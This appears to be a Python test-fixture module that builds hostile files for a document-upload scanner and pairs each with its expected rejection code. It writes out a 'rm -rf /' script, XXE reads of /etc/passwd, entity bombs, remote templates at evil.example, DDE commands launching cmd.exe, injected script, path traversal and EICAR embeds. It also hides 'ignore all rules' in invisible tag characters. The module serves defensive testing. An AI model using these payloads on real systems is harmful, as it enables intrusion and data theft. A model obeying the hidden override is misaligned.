"""Files made to harm whoever opens them, each with the reason code that must meet it.

They are built when the tests run: nothing here is stored, so no scanner trips over the repository.
"""

from __future__ import annotations

import io
import zipfile

import pikepdf

from tests.hostile.good import (
    TEXT,
    docx,
    odt,
    paragraphs,
    pdf,
    relationships,
    rtf,
    word_document,
    zipped,
)
from tests.hostile.registry import EICAR, MEGABYTE, READABLE, hostile


def _word_with(rels: str) -> bytes:
    return docx(extra={"word/_rels/document.xml.rels": rels})


# What is nothing, or something else


@hostile("empty_file")
def empty() -> bytes:
    return b""


@hostile("empty_file")
def only_nul_bytes() -> bytes:
    return bytes(5_000)


@hostile("too_large")
def larger_than_allowed() -> bytes:
    return b"a" * (11 * MEGABYTE)


@hostile("legacy_word")
def old_word_file() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000) + b"WordDocument"


@hostile("zip_encrypted")
def word_file_with_password() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000) + "EncryptedPackage".encode("utf-16-le")


@hostile("program")
def program_with_the_extension_of_a_resume() -> bytes:
    return b"MZ\x90\x00" + bytes(range(256)) * 20


@hostile("program")
def shell_script() -> bytes:
    return b"#!/bin/sh\nrm -rf /\n"


@hostile("image_file")
def svg_with_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@hostile("unknown_type")
def random_bytes() -> bytes:
    return bytes((i * 7919 + i // 3) % 251 for i in range(20_000))


@hostile("not_a_document")
def spreadsheet() -> bytes:
    return zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"})


@hostile("archive_file")
def archive_of_a_program() -> bytes:
    return zipped({"resume.exe": b"MZ" + bytes(100)})


# EICAR: the scanner's matter where it is mere content, ours where it hides in a place that documents do not need


@hostile(READABLE)
def eicar_as_text() -> bytes:
    return EICAR


@hostile("embedded_object")
def eicar_inside_docx() -> bytes:
    return docx(extra={"word/media/eicar.com": EICAR})


@hostile("embedded_object")
def eicar_inside_odt() -> bytes:
    return odt(extra={"Pictures/eicar.com": EICAR})


@hostile("pdf_embedded_files")
def eicar_attached_to_pdf() -> bytes:
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.attachments["eicar.com"] = EICAR
        out = io.BytesIO()
        document.save(out)
    return out.getvalue()


# XML


@hostile("xml_entities")
def external_entity() -> bytes:
    doctype = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    content = word_document(paragraphs("&x;")).replace("?>", "?>" + doctype, 1)
    return docx(extra={"word/document.xml": content})


@hostile("xml_entities")
def billion_laughs() -> bytes:
    entities = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    content = word_document(paragraphs("&l9;")).replace("?>", f"?><!DOCTYPE w:document [{entities}]>", 1)
    return docx(extra={"word/document.xml": content})


@hostile("xml_entities")
def doctype_in_utf_16() -> bytes:
    doctype = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    content = word_document(paragraphs("&x;")).replace("UTF-8", "UTF-16").replace("?>", "?>" + doctype, 1)
    return docx(extra={"word/document.xml": content.encode("utf-16")})


@hostile("xml_entities")
def external_entity_in_odt() -> bytes:
    content = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "http://example.org/">]><a>&x;</a>'
    return odt(extra={"content.xml": content})


# Active content in Word, OpenDocument and RTF files


@hostile("macros")
def docx_with_a_macro() -> bytes:
    return docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


@hostile("macros")
def odt_with_a_macro() -> bytes:
    return odt(extra={"Basic/Standard/Module1.xml": "<module/>"})


@hostile("macros")
def docx_with_activex() -> bytes:
    return docx(extra={"word/activeX/activeX1.xml": "<ocx/>"})


@hostile("external_template")
def remote_template() -> bytes:
    rels = relationships(("attachedTemplate", "http://evil.example/t.dotm", "External"))
    return docx(extra={"word/_rels/settings.xml.rels": rels})


@hostile("external_template")
def remote_template_on_a_share() -> bytes:
    return _word_with(relationships(("attachedTemplate", r"file://\\10.0.0.1\share\t.dotm", "External")))


@hostile("external_image")
def tracking_picture() -> bytes:
    return _word_with(relationships(("image", "https://evil.example/pixel.png", "External")))


@hostile("embedded_object")
def ole_object() -> bytes:
    return docx(extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(100)})


@hostile("embedded_object")
def foreign_html_chunk() -> bytes:
    return _word_with(relationships(("aFChunk", "chunk.html", "Internal")))


@hostile("dde_field")
def command_in_a_split_field() -> bytes:
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in ("DDE", "AUTO c:\\\\cmd.exe"))
    return docx(body=f"<w:p>{runs}</w:p>")


@hostile("embedded_object")
def object_in_rtf() -> bytes:
    return rtf(r"{\object\objemb{\*\objdata 0105000002000000}}")


@hostile("external_template")
def remote_template_in_rtf() -> bytes:
    return rtf(r"{\*\template http://evil.example/t.dotm}Hello")


@hostile("rtf_depth")
def rtf_nested_a_million_deep() -> bytes:
    return b"{\\rtf1" + b"{" * 1_000_000


@hostile(READABLE)
def rtf_that_counts_its_binary_wrong() -> bytes:
    return rtf(TEXT.replace("\n", r"\par ") + r"{\pict\bin2147483647 x}")


# PDF


@hostile("damaged_file")
def docx_cut_in_half() -> bytes:
    body = docx(body=paragraphs("\n".join(f"line {i * 7919 % 1000003}" for i in range(3_000))))
    return body[: len(body) // 2]


# Text


@hostile("too_much_text")
def nine_megabytes_in_one_line() -> bytes:
    return b"a" * (9 * MEGABYTE)


@hostile("too_much_text", READABLE)
def hyphens_without_end() -> bytes:
    return b"ab-\ncd" * 150_000


@hostile(READABLE)
def text_with_some_nul_bytes() -> bytes:
    return TEXT.encode().replace(b"at ", b"at\x00 ")


@hostile("html_depth")
def page_nested_a_million_deep() -> bytes:
    return b"<html><body>" + b"<div>" * 1_000_000


@hostile("no_text")
def page_of_open_comments() -> bytes:
    return b"<html>" + b"<!-- " * 1_000_000 + b"text"


@hostile(READABLE)
def page_with_script() -> bytes:
    return f"<html><script>steal()</script><body onload='steal()'><p>{TEXT}</p></body></html>".encode()


# Two files in one, and packing that hides what is inside


@hostile("program")
def program_that_is_also_a_docx() -> bytes:
    return b"MZ\x90\x00" + bytes(60) + docx()


@hostile("image_file")
def picture_that_is_also_a_docx() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(40) + docx()


@hostile("image_file")
def gif_that_is_also_a_pdf() -> bytes:
    return b"GIF89a/*" + bytes(20) + pdf()


@hostile("polyglot")
def docx_with_a_page_behind_its_end() -> bytes:
    return docx() + b"<html><script>steal()</script></html>"


@hostile("zip_method")
def docx_packed_by_a_rare_method() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_LZMA) as archive, zipfile.ZipFile(io.BytesIO(docx())) as honest:
        for name in honest.namelist():
            archive.writestr(name, honest.read(name))
    return out.getvalue()


@hostile("zip_encrypted")
def odt_with_a_password() -> bytes:
    entry = (
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="99">'
        '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="x"/></manifest:file-entry>'
    )
    space = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    manifest = f'<?xml version="1.0"?><manifest:manifest xmlns:manifest="{space}">{entry}</manifest:manifest>'
    return odt(extra={"META-INF/manifest.xml": manifest, "content.xml": bytes(range(256)) * 20})


@hostile("zip_path")
def part_that_climbs_out_by_compatible_dots() -> bytes:
    # NFKC turns these into ../../ on systems that fold names.
    return docx(extra={"..\\..\\word\\evil.xml": "x"})


@hostile("xml_entities")
def quadratic_entities() -> bytes:
    doctype = f'<!DOCTYPE w:document [<!ENTITY a "{"a" * 50_000}">]>'
    content = word_document(paragraphs("&a;" * 2_000)).replace("?>", "?>" + doctype, 1)
    return docx(extra={"word/document.xml": content})


@hostile("xml_entities")
def entities_in_a_part_that_nobody_reads() -> bytes:
    return docx(extra={"customXml/item1.xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'})


@hostile(READABLE)
def eicar_in_the_words_of_a_docx() -> bytes:
    return docx(body=paragraphs(EICAR.decode().replace("&", "&amp;").replace("<", "&lt;")))


@hostile("external_part")
def picture_fetched_by_a_field() -> bytes:
    return docx(body='<w:p><w:r><w:instrText>INCLUDEPICTURE "https://evil.example/p.png" \\d</w:instrText></w:r></w:p>')


@hostile("dde_field")
def command_in_an_rtf_field() -> bytes:
    return rtf(r"{\field{\*\fldinst DDEAUTO c:\\windows\\cmd.exe}{\fldrslt x}}")


@hostile("embedded_object")
def object_in_rtf_that_updates_itself() -> bytes:
    return rtf(r"{\object\objautlink\objupdate{\*\objclass Word.Document.8}{\*\objdata 0105}}")


@hostile("external_part")
def document_in_a_document_from_elsewhere() -> bytes:
    return _word_with(relationships(("subDocument", "https://evil.example/s.docx", "External")))


@hostile(READABLE)
def text_with_every_direction_and_tag_character() -> bytes:
    tags = "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules")
    return f"{TEXT}\n\u202eevil\u202c \u2066x\u2069 \ufeff\u200b\u200d{tags} ＜script＞ ․․/etc/passwd\n".encode()
